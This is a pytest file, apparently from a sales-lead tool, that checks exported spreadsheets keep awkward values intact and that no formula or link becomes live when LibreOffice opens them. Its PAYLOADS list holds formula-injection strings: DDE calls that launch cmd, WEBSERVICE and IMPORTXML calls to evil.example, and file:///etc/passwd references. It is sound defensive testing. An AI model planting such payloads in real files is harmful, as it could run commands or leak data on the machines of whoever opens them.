"""What another spreadsheet makes of our files: every value as it was, and no formula or link that lives."""

import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from python_calamine import CalamineWorkbook

from sdrdesk.core.domain.lead import COLUMNS
from sdrdesk.core.operations.exports import ExportChoice, export
from sdrdesk.core.operations.leads import add_note

pytestmark = pytest.mark.long

AWKWARD = (
    "0612345678", "+33612345678", "00123", "01000", "3/4", "1-2", "12/11/2026", "2026-11-02", "18:30", "1e5", "1E+11",
    "123456789012345678", "0,5", "12.50", "-0", "50–99", "TRUE", "VRAI", "#N/A", "#REF!", "=1+1", "=cmd|' /C calc'!A0",
    "+plus", "-2+3", "@SUM(A1)", "'", "'=x", "''x", "a  b", "line\nline", "a\r\nb", "a\tb", '"q"; , |', "<b>&amp;</b>",
    "<r><t>x</t></r>", "_x000D_", "_x0041_", "http://a.example/?q=1&r=2", "mailto:a@b.example", "É e\u0301 œ ß",
    "😀👩‍💻", "عربي", "中文", "x\u2028y", "x\u200cy", "10 %", "€ 1 000,00", "(12)", "x" * 9_000,
)  # fmt: skip
"""What spreadsheets make something else of when they may."""

_CALLS = (
    "1+1", "SUM(1,2)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'WEBSERVICE("http://evil.example")',
    'DDE("soffice";"x";"y")', 'IMPORTXML("http://evil.example","//a")', "MSEXCEL|'\\..\\cmd'!''",
)  # fmt: skip
PAYLOADS = (
    *(sign + call for sign in ("=", "+", "-", "@", "=+", "-=") for call in _CALLS),
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "==1+1", "'=1+1", '"=1+1"', '=1+1";"', "a,=1+1", "a;=1+1", "a\t=1+1",
    "x\n=1+1", "=\n1+1", "+33 6 12=1+1", "-12+A1", "{=1+1}", "=A1", "=file:///etc/passwd#$Sheet1.A1", "='file:///etc/passwd'#$A.A1",
    "http://evil.example", "file:///etc/passwd", "\\\\evil.example\\share", "＝1+1", "\xa0=1+1", "\ufeff=1+1",
    "of:=1+1", "msoxl:=1+1", "=1+1;=2+2,=3+3",
)  # fmt: skip

Converter = Callable[..., Path]


@pytest.fixture(scope="session")
def convert(tmp_path_factory: pytest.TempPathFactory) -> Converter:
    """Opens a file in LibreOffice, without a window and with a profile of its own, and saves it as another kind."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("no LibreOffice on this machine")
    profile = tmp_path_factory.mktemp("profile")

    def converted(path: Path, kind: str, read_as: str = "") -> Path:
        folder = tmp_path_factory.mktemp("converted")
        command = [program, "--headless", f"-env:UserInstallation={profile.as_uri()}"]
        command += [f"--infilter={read_as}"] if read_as else []
        command += ["--convert-to", kind, "--outdir", str(folder), str(path)]
        environment = {k: v for k, v in os.environ.items() if k not in ("DISPLAY", "QT_QPA_PLATFORM")}
        done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False, env=environment)
        found = folder / f"{path.stem}.{kind}"
        assert found.exists(), done.stdout + done.stderr
        return found

    return converted


def texts_of(path: Path, column: int) -> list[object]:
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    return [row[column] for row in rows[1:]]


def test_awkward_values_go_through_another_spreadsheet_and_come_back_as_they_were(desk, tmp_path, convert):
    assert len(set(AWKWARD)) >= 26
    understood = {"country", "email", "domain", "source_date", "source", "external_id", "notes"}
    free = [c for c in COLUMNS if c not in understood]
    for n, text in enumerate(AWKWARD):
        values = {"external_id": f"00{n}", "last_name": f"N{n}", "phone": ""}
        lead = desk.add(**(values | {column: text for column in free if column not in values}))
        add_note(desk.workspace, lead, text)
    path = tmp_path / "out.xlsx"
    export(desk.workspace, path)
    back = convert(path, "xlsx")
    done = desk.imported(back)
    assert done.counts["unchanged"] == len(AWKWARD) == sum(done.counts.values())
    header = CalamineWorkbook.from_path(str(back)).get_sheet_by_index(0).to_python()[0]
    # LibreOffice has one kind of line end in a cell.
    assert texts_of(back, header.index("tags")) == [text.replace("\r\n", "\n") for text in AWKWARD]


def live_parts(path: Path) -> list[str]:
    """The formulas and links of a flat OpenDocument sheet, and what it would fetch."""
    found = []
    for element in ElementTree.parse(path).iter():
        name = element.tag.rpartition("}")[2]
        kept = {key.rpartition("}")[2]: value for key, value in element.attrib.items()}
        if "formula" in kept:
            found.append(kept["formula"])
        # Styles and the document itself carry no address; a cell's link, a linked sheet or a fetched range does.
        if name in ("a", "table-source", "cell-range-source", "dde-source", "event-listener"):
            found.append(f"{name} {kept.get('href', '')}")
    return found


@pytest.mark.parametrize(
    ("ending", "language", "read_as"),
    [
        ("xlsx", "en", ""),
        ("csv", "en", "CSV:44,34,76,1"),
        ("csv", "fr", "CSV:59,34,76,1"),
        ("csv", "en", "CSV:44/59/9,34,76,1"),
        ("csv", "fr", "CSV:44/59/9,34,76,1"),
    ],
)
def test_no_payload_lives_in_another_spreadsheet(desk, tmp_path, convert, ending, language, read_as):
    assert len(set(PAYLOADS)) >= 60
    for n, text in enumerate(PAYLOADS):
        lead = desk.add(external_id=str(n), last_name=f"x{text}", first_name=text, company=text, tags=text, phone="")
        add_note(desk.workspace, lead, text)
    columns = tuple((c, "") for c in ("id", "first_name", "last_name", "company", "tags", "notes"))
    path = tmp_path / f"out.{ending}"
    done = export(desk.workspace, path, language=language, choice=ExportChoice(columns))
    assert done["rows"] == len(PAYLOADS)
    opened = convert(path, "fods", read_as)
    assert live_parts(opened) == []
    assert "1+1" in opened.read_text(encoding="utf-8")


def test_a_formula_that_lives_is_seen_by_the_test_above(tmp_path, convert):
    (tmp_path / "live.csv").write_text('a,b\n=1+1,"=HYPERLINK(""http://evil.example"")"\n', encoding="utf-8")
    assert len(live_parts(convert(tmp_path / "live.csv", "fods", "CSV:44,34,76,1"))) == 2
